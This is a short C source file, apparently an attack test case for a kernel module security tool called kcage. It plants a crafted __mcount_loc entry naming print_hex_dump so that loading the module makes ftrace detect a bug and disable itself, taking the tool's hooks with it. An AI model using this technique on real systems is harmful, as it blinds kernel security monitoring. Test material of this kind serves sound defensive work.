// SPDX-License-Identifier: GPL-2.0
/*
 * atk_ld_mcount: an __mcount_loc entry naming the start of a kernel
 * function (print_hex_dump): ftrace_module_init() would take it for the
 * module's own call site and rewrite it (finding anything but the call to
 * __fentry__ it expects, ftrace reports a bug and disables itself: kcage's
 * hooks included).
 */
#include "attack.h"

asm(".pushsection __mcount_loc, \"a\"\n"
    "	.quad print_hex_dump\n"
    ".popsection\n");

static int attack(struct file *f)
{
	return 0;
}
